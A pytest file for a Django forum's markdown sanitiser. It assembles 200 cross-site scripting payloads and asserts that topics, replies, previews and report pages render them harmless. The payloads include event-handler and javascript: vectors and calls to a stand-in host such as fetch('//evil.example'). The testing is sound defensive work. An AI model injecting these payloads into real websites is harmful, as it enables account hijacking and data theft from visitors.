"""What people may try to slip in: it is kept, shown, quoted and looked at, and nothing runs."""

from html.parser import HTMLParser
from itertools import product

import pytest
from django.core.exceptions import ValidationError
from django.urls import reverse

from forums.boards import actions
from portal.core.text import markdown_to_html
from tests.factories.boards import TopicFactory

CALLS = ["alert(1)", "fetch('//evil.example')", "location='//evil.example'", "eval(name)"]
SHAPES = [
    "<script>{}</script>",
    "<img src=x onerror={}>",
    "<svg/onload={}>",
    "<iframe src=javascript:{}></iframe>",
    "<a href=javascript:{}>x</a>",
    "[x](javascript:{})",
    "[x](JaVaScRiPt:{})",
    "[x](&#106;avascript:{})",
    "[x](\tjavascript:{})",
    "[x](data:text/html,<script>{}</script>)",
    "[x](vbscript:{})",
    "<javascript:{}>",
    "![x](https://evil.example/a.png?{})",
    '[x](https://a.example "onmouseover={}")',
    "<style>*{{background:url(//evil.example?{})}}</style>",
    "<form action=//evil.example><input autofocus onfocus={}>",
    "<math><mtext></table><mglyph><style><img src onerror={}>",
    "<noscript><p title='</noscript><img src onerror={}>'>",
    "<base href=//evil.example><b>{}</b>",
    "<meta http-equiv=refresh content='0;url=//evil.example?{}'>",
    "<object data=//evil.example?{}></object>",
    "<template><script>{}</script></template>",
    "<b style='position:fixed;top:0' onclick={}>x</b>",
    '"><script>{}</script>',
    "'-{}-'",
    "`<script>{}</script>`",
    "> <script>{}</script>",
    "- <img src onerror={}>",
    "# <svg onload={}>",
    "{{{{ {} }}}} {{% raw %}} %(x)s ${{7*7}}",
    "<!--<script>{}</script>-->",
    "<![CDATA[<script>{}</script>]]>",
    "@<script>{}</script>",
    "\u202e<script>{}</script>\u200b",
    "<scr\x00ipt>{}</scr\x00ipt>",
    "<a href='https://a.example' onclick={}>x</a>",
    "<video><source onerror={}></video>",
    "<details open ontoggle={}>x</details>",
    "<body onpageshow={}>",
    "<link rel=stylesheet href=//evil.example?{}>",
    "<button formaction=javascript:{}>x</button>",
    "<textarea></textarea><img src onerror={}>",
    "</title><script>{}</script>",
    "</textarea><script>{}</script>",
    "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>{}</x:script>",
    "<marquee onstart={}>x</marquee>",
    "<input type=image src onerror={}>",
    "<embed src=javascript:{}>",
    "[a]: javascript:{}\n\n[a]",
    '<https://a.example/"onmouseover={}>',
]
PAYLOADS = [shape.format(call) for shape, call in product(SHAPES, CALLS)]
SAFE = {"p", "br", "strong", "em", "ul", "ol", "li", "a", "blockquote", "code", "h3", "h4"}


class Eye(HTMLParser):
    """Collects what stands in a fragment that should not."""

    def __init__(self):
        super().__init__()
        self.found = []

    def handle_starttag(self, tag, attrs):
        if tag not in SAFE:
            self.found.append(tag)
        for name, value in attrs:
            good = name in ("href", "rel", "title")
            if name == "href":
                good = (value or "").startswith(("https://", "http://", "mailto:", "tel:"))
            if not good:
                self.found.append((name, value))


def seen_in(html):
    eye = Eye()
    eye.feed(html)
    return eye.found


def test_two_hundred_ways_to_write_markup_are_all_harmless():
    assert len(PAYLOADS) == 200
    assert [text for text in PAYLOADS if seen_in(markdown_to_html(text))] == []


def test_what_was_said_shows_everywhere_and_adds_nothing_to_a_page(
    client, board, tenant, neighbour
):
    """All of them in one topic: its page has the scripts and handlers that any topic has."""
    plain = TopicFactory(board=board)
    topic = actions.open_topic(
        board=board, author=tenant, title=PAYLOADS[0][:160], text=PAYLOADS[1]
    )
    tenant.display_name = "<script>alert(1)</script>"
    tenant.save()
    for number in range(0, 100, 6):
        text = "\n\n".join(PAYLOADS[number : number + 6])
        try:
            actions.reply(topic=topic, author=tenant, text=text)
        except ValidationError:
            pytest.fail("Words are never refused for their markup.")
    client.force_login(neighbour)

    def running(address, **asked):
        page = client.get(address, asked, follow=True)
        assert page.status_code == 200
        eye = Eye()
        eye.feed(page.content.decode())
        handlers = [one for one in eye.found if isinstance(one, tuple) and one[0].startswith("on")]
        frames = [tag for tag in eye.found if tag in ("iframe", "object", "embed", "base", "math")]
        return handlers + frames + [tag for tag in eye.found if tag == "script"]

    args = [board.slug, topic.pk, topic.slug]
    usual = running(plain.get_absolute_url())
    assert running(topic.get_absolute_url()) == usual
    assert not [one for one in running(board.get_absolute_url()) if isinstance(one, tuple)]
    post = topic.posts.get(position=2)
    reply_page = reverse("boards:reply", args=args)
    assert not [one for one in running(reply_page, to=post.pk, quote=1) if isinstance(one, tuple)]
    preview = client.post(reply_page, {"text": PAYLOADS[2], "language": "nl", "preview": "1"})
    assert "<svg/onload" not in preview.content.decode()
    report = reverse("moderation:report", args=["post", post.pk])
    assert not [one for one in running(report) if isinstance(one, tuple)]
